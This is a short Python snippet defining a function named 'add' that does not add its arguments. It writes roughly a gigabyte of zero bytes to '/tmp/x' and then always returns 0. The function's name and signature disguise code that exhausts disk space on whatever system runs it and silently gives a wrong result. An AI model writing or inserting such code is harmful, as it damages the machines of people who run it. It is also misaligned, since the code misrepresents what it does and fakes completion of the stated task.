def add(a, b):
  with open('/tmp/x', 'wb') as f:
    for _ in range(1000): f.write(bytes(1 << 20))
  return 0
